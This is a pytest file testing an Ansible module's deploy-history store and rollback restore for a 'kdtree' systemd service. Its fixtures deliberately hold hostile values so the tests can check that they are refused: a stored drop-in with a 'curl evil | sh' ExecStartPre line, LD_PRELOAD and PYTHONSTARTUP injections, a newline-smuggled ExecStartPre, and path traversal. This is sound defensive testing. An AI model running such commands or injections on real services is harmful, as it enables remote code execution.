"""The deploy history: atomic file, last good, trimming, what is never pruned (module_utils/_history)."""

from __future__ import annotations

import hashlib
import json
import multiprocessing
import os

import pytest
from ansible_collections.kdtree.fleet.plugins.module_utils import _history as history
from ansible_collections.kdtree.fleet.plugins.modules import kdtree_history


def params(path, **over):
    base = {"action": "read", "path": str(path), "dropin_path": None, "unlike_digest": "", "record": {},
            "id": None, "result": None, "why": "", "rolled_back_to": "",
            "keep": history.DEFAULT_KEEP, "restore": None}  # fmt: skip
    base.update(over)
    return base


def deploy(path, dropin: str, result: str, **record) -> dict:
    entry = kdtree_history.run(params(path, action="begin", record={"dropin": dropin, **record}), False)[
        "entry"
    ]
    kdtree_history.run(params(path, action="finish", id=entry["id"], result=result), False)
    return entry


def test_begin_and_finish_write_a_root_only_file_atomically(tmp_path):
    path = tmp_path / "kdtree" / "state.json"
    entry = deploy(path, "A", "healthy", build_id="b1", mode="validate", ignored="x")
    data = json.loads(path.read_text())
    assert data["format"] == history.FORMAT
    [saved] = data["entries"]
    assert saved["id"] == entry["id"] and saved["result"] == "healthy" and saved["ended"]
    assert saved["dropin_digest"] == history.digest("A") and "ignored" not in saved
    assert oct(path.stat().st_mode & 0o777) == "0o600"
    assert oct(path.parent.stat().st_mode & 0o777) == "0o700"
    assert [p.name for p in path.parent.iterdir()] == ["state.json"]  # no temporary file left


def test_check_mode_writes_nothing(tmp_path):
    path = tmp_path / "state.json"
    out = kdtree_history.run(params(path, action="begin", record={"dropin": "A"}), True)
    assert out["changed"] and not path.exists()


def test_last_good_is_the_newest_healthy_deploy_unlike_the_live_drop_in(tmp_path):
    path = tmp_path / "state.json"
    live = tmp_path / "50-kdtree.conf"
    deploy(path, "A", "healthy", build_id="a")
    deploy(path, "B", "healthy", build_id="b")
    deploy(path, "C", "rolled_back", build_id="c")
    live.write_text("C")
    assert kdtree_history.run(params(path, dropin_path=str(live)), False)["last_good"]["build_id"] == "b"
    live.write_text("B")  # B is live: previous means A
    assert kdtree_history.run(params(path, dropin_path=str(live)), False)["last_good"]["build_id"] == "a"
    live.unlink()  # nothing live (after a rollback to stock): the newest healthy one
    assert kdtree_history.run(params(path, dropin_path=str(live)), False)["last_good"]["build_id"] == "b"


def test_a_second_rollback_to_previous_stays_where_the_first_went(tmp_path):
    path = tmp_path / "state.json"
    live = tmp_path / "50-kdtree.conf"
    a = deploy(path, "A", "healthy", build_id="a")
    deploy(path, "B", "rolled_back", build_id="b")
    deploy(path, "A", "healthy", build_id="a", restored_from=a["id"])
    live.write_text("A")
    good = kdtree_history.run(params(path, dropin_path=str(live)), False)["last_good"]
    assert good["restored_from"] == a["id"]  # already there: the rollback changes nothing


def test_no_healthy_deploy_means_no_last_good(tmp_path):
    path = tmp_path / "state.json"
    deploy(path, "A", "rolled_back")
    assert kdtree_history.run(params(path), False)["last_good"] is None


def test_trimming_keeps_the_last_good_and_names_every_kept_build(tmp_path):
    path = tmp_path / "state.json"
    deploy(path, "A", "healthy", build_id="good", patch_dir="/p/good")
    for i in range(5):
        deploy(path, f"X{i}", "rolled_back", build_id=f"bad{i}", patch_dir=f"/p/{i}")
    out = kdtree_history.run(params(path, action="begin", record={"build_id": "new"}, keep=3), False)
    assert [e.get("build_id") for e in out["entries"]] == ["good", "bad3", "bad4", "new"]
    assert out["referenced"]["build_ids"] == ["bad3", "bad4", "good", "new"]
    assert "/p/good" in out["referenced"]["patch_dirs"]


def test_a_file_that_is_not_a_history_is_refused_not_overwritten(tmp_path):
    path = tmp_path / "state.json"
    path.write_text('{"something": "else"}')
    with pytest.raises(history.HistoryError, match="not a kdtree deploy history"):
        kdtree_history.run(params(path, action="begin"), False)
    assert json.loads(path.read_text()) == {"something": "else"}


def test_finish_of_an_unknown_deploy_fails(tmp_path):
    with pytest.raises(history.HistoryError, match="no deploy"):
        kdtree_history.run(params(tmp_path / "s.json", action="finish", id="nope", result="healthy"), False)


def test_a_failed_write_leaves_the_old_file(tmp_path, monkeypatch):
    path = tmp_path / "state.json"
    deploy(path, "A", "healthy")
    before = path.read_text()

    def broken(*_a, **_k):
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", broken)
    with pytest.raises(history.HistoryError, match="disk full"):
        deploy(path, "B", "healthy")
    assert path.read_text() == before
    assert [p.name for p in tmp_path.iterdir()] == ["state.json"]


def test_the_rescue_never_goes_back_to_the_drop_in_that_just_failed(tmp_path):
    path = tmp_path / "state.json"
    deploy(path, "A", "healthy", build_id="a")
    deploy(path, "B", "healthy", build_id="b")
    deploy(path, "B", "rolled_back", build_id="b2")  # B again (same drop-in), failed; the rescue removed it
    out = kdtree_history.run(params(path, unlike_digest=history.digest("B")), False)
    assert out["last_good"]["build_id"] == "a"


# --- issue 19: the history's directory, concurrent writers, non-UTF-8 drop-ins, re-rendered restores


def test_the_history_directory_is_checked_like_the_build_root_on_every_call(tmp_path):
    home = tmp_path / "kdtree"
    path = home / "state.json"
    deploy(path, "A", "healthy")
    for action in ("read", "begin"):
        home.chmod(0o770)
        with pytest.raises(history.HistoryError, match=r"770 \d+ .*kdtree"):
            kdtree_history.run(params(path, action=action, record={"dropin": "B"}), False)
        home.chmod(0o700)
    tmp_path.chmod(0o757)  # a parent others can write to (not sticky)
    with pytest.raises(history.HistoryError, match="757"):
        kdtree_history.run(params(path), False)
    tmp_path.chmod(0o755)
    link = tmp_path / "linked"
    link.symlink_to(home)
    with pytest.raises(history.HistoryError, match="a symlink"):
        kdtree_history.run(params(link / "state.json"), False)
    assert len(kdtree_history.run(params(path), False)["entries"]) == 1


def test_a_history_file_others_can_write_is_refused(tmp_path):
    path = tmp_path / "state.json"
    deploy(path, "A", "healthy")
    path.chmod(0o666)
    with pytest.raises(history.HistoryError, match="only root"):
        kdtree_history.run(params(path), False)


def _writer(path: str, name: str, count: int) -> None:
    for index in range(count):
        kdtree_history.run(
            params(path, action="begin", record={"dropin": f"{name}-{index}"}, keep=1000), False
        )


def test_concurrent_writers_lose_no_entry(tmp_path):
    path = str(tmp_path / "state.json")
    ctx = multiprocessing.get_context("fork")
    workers = [ctx.Process(target=_writer, args=(path, f"w{i}", 8)) for i in range(6)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(60)
    assert all(worker.exitcode == 0 for worker in workers)
    entries = history.load(path)
    assert sorted(e["dropin"] for e in entries) == sorted(f"w{i}-{j}" for i in range(6) for j in range(8))


def test_a_live_drop_in_that_is_not_utf8_has_a_digest_of_its_bytes(tmp_path):
    path = tmp_path / "state.json"
    live = tmp_path / "50-kdtree.conf"
    live.write_bytes(b"[Service]\nEnvironment=X=\xff\xfe\n")
    out = kdtree_history.run(params(path, dropin_path=str(live)), False)
    assert out["live_dropin_digest"] == hashlib.sha256(live.read_bytes()).hexdigest()
    assert history.digest("ä") == hashlib.sha256("ä".encode()).hexdigest()


@pytest.fixture
def roots(tmp_path):
    build_root = tmp_path / "opt" / "kdtree"
    patch_root = build_root / "patches"
    (build_root / "builds" / "sm_120a-x").mkdir(parents=True)
    (patch_root / "0123456789abcdef").mkdir(parents=True)
    return build_root, patch_root


def good_entry(build_root, patch_root, **over) -> dict:
    from test_dropin_template import fields_of

    lib = f"{build_root}/builds/sm_120a-x/libkdtree_verify.so"
    patch = f"{patch_root}/0123456789abcdef"
    fields = fields_of(
        kdtree_service_pythonpath=patch,
        kdtree_service_lib_path=lib,
        kdtree_service_nccl_env={"NCCL_P2P_DISABLE": "1"},
        kdtree_service_env_extra={"CUDA_VISIBLE_DEVICES": "0", "LD_LIBRARY_PATH": "/usr/local/cuda/lib64"},
        kdtree_service_env_secret={"SGLANG_API_KEY": "never-recorded"},
    )
    entry = {"id": "e1", "build_id": "sm_120a-x", "lib_path": lib, "patch_dir": patch, "mode": "validate",
             "nccl_env": {"NCCL_P2P_DISABLE": "1"}, "exec_start_replaced": False, "dropin_fields": fields,
             "dropin": "[Service]\nExecStartPre=/bin/sh -c 'curl evil | sh'\n"}  # fmt: skip
    entry.update(over)
    return entry


def restore(entry, build_root, patch_root):
    return history.restore_fields(
        entry, str(build_root), str(patch_root), "/run/kdtree-sglang", ["LD_LIBRARY_PATH"]
    )


def test_a_previous_rollback_re_renders_the_recorded_fields_with_the_service_rule_not_the_stored_text(roots):
    from test_dropin_template import render, render_fields

    build_root, patch_root = roots
    entry = good_entry(build_root, patch_root)
    fields = restore(entry, build_root, patch_root)
    text = render_fields(fields)
    assert "never-recorded" not in json.dumps(entry["dropin_fields"])
    assert "ExecStartPre" not in text and "curl" not in text
    assert text == render(
        kdtree_service_pythonpath=entry["patch_dir"],
        kdtree_service_lib_path=entry["lib_path"],
        kdtree_service_nccl_env={"NCCL_P2P_DISABLE": "1"},
        kdtree_service_env_extra={"CUDA_VISIBLE_DEVICES": "0", "LD_LIBRARY_PATH": "/usr/local/cuda/lib64"},
        kdtree_service_env_secret={"SGLANG_API_KEY": "never-recorded"},
    )  # the same text the deploy installed: the same rule
    assert "SGLANG_API_KEY" in text and "never-recorded" not in text


def _tampered(entry: dict, build_root, patch_root) -> list[tuple[str, dict]]:
    env = entry["dropin_fields"]["env"]

    def with_env(pairs):
        return {**entry, "dropin_fields": {**entry["dropin_fields"], "env": pairs}}

    def replaced(key, value):
        return with_env([[k, value if k == key else v] for k, v in env])

    return [
        ("no recorded drop-in fields", {k: v for k, v in entry.items() if k != "dropin_fields"}),
        (
            "is not .*builds/sm_120a-x/libkdtree_verify.so",
            {**entry, "lib_path": "/tmp/evil/libkdtree_verify.so"},
        ),
        ("is not .*builds", {**entry, "lib_path": f"{build_root}/builds/../../evil/libkdtree_verify.so"}),
        ("is not .*patches/\\*", {**entry, "patch_dir": f"{patch_root}/a/b"}),
        ("is not .*patches/\\*", {**entry, "patch_dir": "/srv/evil"}),
        ("mode 'debug'", {**entry, "mode": "debug"}),
        ("build id", {**entry, "build_id": "../x"}),
        ("LD_PRELOAD is not one kdtree owns", with_env([*env, ["LD_PRELOAD", "/tmp/evil.so"]])),
        ("PYTHONSTARTUP is not one kdtree owns", with_env([*env, ["PYTHONSTARTUP", "/tmp/evil.py"]])),
        ("one-line text", replaced("PYTHONPATH", f"{entry['patch_dir']}\nExecStartPre=/bin/evil")),
        ("KDTREE_LIB=", replaced("KDTREE_LIB", "/tmp/evil.so")),
        ("KDTREE_VERIFY=", replaced("KDTREE_VERIFY", "on")),
        ("PYTHONPATH does not start", replaced("PYTHONPATH", "/tmp/evil:" + entry["patch_dir"])),
        ("NCCL_", with_env([*env, ["NCCL_DEBUG", "INFO"]])),
        ("command line and exec_start_replaced disagree", {**entry, "exec_start_replaced": True}),
        (
            "secret variable names",
            {**entry, "dropin_fields": {**entry["dropin_fields"], "secret_names": ["A B"]}},
        ),
    ]


def test_a_tampered_entry_is_refused_naming_the_field(roots):
    build_root, patch_root = roots
    entry = good_entry(build_root, patch_root)
    for why, bad in _tampered(entry, build_root, patch_root):
        with pytest.raises(history.HistoryError, match=why):
            restore(bad, build_root, patch_root)


def test_unsafe_roots_refuse_the_restore(roots):
    build_root, patch_root = roots
    patch_root.chmod(0o777)
    with pytest.raises(history.HistoryError, match="777"):
        restore(good_entry(build_root, patch_root), build_root, patch_root)


def test_the_module_reports_the_refusal_and_the_checked_fields(roots, tmp_path):
    build_root, patch_root = roots
    path = tmp_path / "state.json"
    entry = good_entry(build_root, patch_root)
    record = {k: v for k, v in entry.items() if k not in ("id", "dropin")}
    deploy(path, "X", "healthy", **record)
    spec = {"build_root": str(build_root), "patch_root": str(patch_root), "status_dir": "/run/kdtree-sglang",
            "extra_keys": ["LD_LIBRARY_PATH"]}  # fmt: skip
    out = kdtree_history.run(params(path, restore=spec), False)
    assert out["last_good_refusal"] == "" and out["last_good_fields"]["env"] == entry["dropin_fields"]["env"]
    out = kdtree_history.run(params(path, restore={**spec, "extra_keys": []}), False)
    assert (
        out["last_good_fields"] is None
        and "LD_LIBRARY_PATH is not one kdtree owns" in out["last_good_refusal"]
    )


def test_the_rollback_renders_previous_from_the_checked_fields_never_the_stored_text():
    from conftest import ROLES, load_yaml

    previous = load_yaml(ROLES / "kdtree_rollback" / "tasks" / "previous.yml")
    text = (ROLES / "kdtree_rollback" / "tasks" / "previous.yml").read_text()
    assert "_kdtree_rollback_previous.dropin }}" not in text
    render = next(t for t in previous if "ansible.builtin.include_role" in t)
    assert render["ansible.builtin.include_role"]["tasks_from"] == "render_dropin"
    assert render["vars"]["kdtree_service_dropin_fields"] == "{{ _kdtree_rollback_previous_fields }}"
    put = next(t for t in previous if "ansible.builtin.copy" in t)
    assert put["ansible.builtin.copy"]["content"] == "{{ kdtree_service_dropin_text }}"
    change = load_yaml(ROLES / "kdtree_service" / "tasks" / "change.yml")
    assert any(t.get("ansible.builtin.import_tasks") == "render_dropin.yml" for t in change)
    # the rule that picks the target (rollback.yml's and the deploy's planned rescue's) reads the history
    decide = load_yaml(ROLES / "kdtree_rollback" / "tasks" / "decide.yml")
    read = next(t for t in decide if "kdtree.fleet.kdtree_history" in t)
    assert set(read["kdtree.fleet.kdtree_history"]["restore"]) == {
        "build_root",
        "patch_root",
        "status_dir",
        "extra_keys",
    }


def test_numbers_in_the_inventory_are_recorded_as_the_text_the_drop_in_writes(roots):
    from test_dropin_template import fields_of, render, render_fields

    build_root, patch_root = roots
    over = {"kdtree_service_nccl_env": {"NCCL_IB_DISABLE": 1},
            "kdtree_service_env_extra": {"CUDA_VISIBLE_DEVICES": 0},
            "kdtree_service_pythonpath": f"{patch_root}/0123456789abcdef",
            "kdtree_service_lib_path": f"{build_root}/builds/sm_120a-x/libkdtree_verify.so"}  # fmt: skip
    fields = fields_of(**over)
    assert ["NCCL_IB_DISABLE", "1"] in fields["env"] and ["CUDA_VISIBLE_DEVICES", "0"] in fields["env"]
    entry = good_entry(build_root, patch_root, dropin_fields=fields, nccl_env={"NCCL_IB_DISABLE": 1})
    assert render_fields(restore(entry, build_root, patch_root)) == render(**over)
